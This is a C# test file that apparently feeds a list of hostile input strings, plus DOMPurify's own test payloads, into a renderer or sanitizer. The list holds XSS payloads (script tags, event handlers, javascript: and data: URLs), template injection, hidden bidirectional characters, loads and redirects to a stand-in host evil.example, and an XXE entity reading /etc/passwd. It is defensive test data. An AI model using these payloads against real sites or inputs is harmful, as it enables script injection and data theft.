using System.Text.Json;
using Vane.SystemTests.Machine;

namespace Vane.SystemTests.Hostile;

/// <summary>Texts that try to become more than text.</summary>
internal static class HostileTexts
{
    /// <summary>A name of the texts in this file.</summary>
    public const string Own = "own";

    /// <summary>A name of the texts DOMPurify is tested with.</summary>
    public const string DomPurify = "dompurify";

    private static readonly string[] Texts =
    [
        // Scripts and what runs on its own.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script>eval('alert(1)')//",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"jav&#x09;ascript:alert(1)\" onload=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",

        // Other languages inside a page.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",

        // Frames, forms and what moves the page.
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<form action=\"https://evil.example/\"><button>x</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",

        // Addresses that run.
        "javascript:alert(1)",
        "JaVaScRiPt\t:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "[x](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "![x](x\"onerror=\"alert(1))",
        "<javascript:alert(1)>",
        "<https://evil.example/>",
        "https://evil.example/?a=<script>alert(1)</script>",
        "[x]: javascript:alert(1) \"y\"",
        "[^e1]: javascript:alert(1)",
        "www.evil.example and someone@evil.example",

        // Ways out of what surrounds a text.
        "\" onmouseover=\"alert(1)\" x=\"",
        "' onmouseover='alert(1)' x='",
        "` onmouseover=`alert(1)` x=`",
        "\"><img src=x onerror=alert(1)>",
        "--><script>alert(1)</script><!--",
        "<!-- swallowed --!><img src=x onerror=alert(1)>",
        "]]><script>alert(1)</script><![CDATA[",
        "</style><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea></td></tr></table></main></body></html><script>alert(1)</script>",
        "</bdi></a></td><td>one cell more",
        "| a | pipe | and \\| an escaped one | ---",
        "a\n\n<script>alert(1)</script>\n\n| x |\n|---|\n| y |",
        "a\r\n---\r\ntitle: b\r\n---",
        "a\u2028<script>alert(1)</script>\u2029b",
        "\\<script>alert(1)\\</script>\\",

        // Markdown and templates.
        "# not a heading",
        "- [x] not a task",
        "1. not a list",
        "a. not a list",
        "iv) not a list",
        "+ not a list, C++ and C++",
        ": not a definition",
        "\"\"not a citation\"\" ''or'' ,,this,,",
        "+---+\n| x |\n+---+",
        "> not a quote",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "**bold** ~~struck~~ ==marked== ^^up^^ ++in++ $x$",
        "x {onclick=alert(1) .class #id}",
        "::: danger\n<script>alert(1)</script>\n:::",
        "*[HTML]: <img src=x onerror=alert(1)>",
        "{{ constructor.constructor('alert(1)')() }}",
        "{% include 'x' %} {{< shortcode >}} ${alert(1)} <%= 1 %>",
        "@(alert(1)) @mention #1 :smile:",

        // Entities and characters that hide.
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62; &copy",
        "&lt<script>alert(1)</script>&gt",
        "＜script＞alert(1)＜/script＞",
        "\u202Etxt.exe\u202C <b>\u2066x\u2069</b> \u200Fend",
        "a\u200Bb\u00ADc\uFEFFd\u0001e\u001Bf\u007Fg\u0085h",
        "\u202E",
        "👩‍👩‍👧‍👦<img src=x onerror=alert(1)>🏳️‍🌈",
        "e\u0301\u0302\u0303<u>x</u>",

        // What never ends.
        "<",
        "<a href=\"",
        "<img src=\"x\" title='",
        "<!--",
        "<![CDATA[",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<plaintext>",
        "<xmp>",
        "<table><tr><td>",
        "[unclosed](",
        new string('x', 400) + "<script>alert(1)</script>",
        string.Concat(Enumerable.Repeat("<b>", 60)),
    ];

    /// <summary>The texts of a set.</summary>
    public static string[] Of(string set) => set == Own ? Texts : ReadDomPurify();

    private static string[] ReadDomPurify()
    {
        var file = TestData.Require("bench/extra/dompurify/expect.json");
        using var json = JsonDocument.Parse(File.ReadAllBytes(file));
        return [.. json.RootElement.EnumerateArray().Select(test => test.GetProperty("payload").GetString()!)];
    }
}
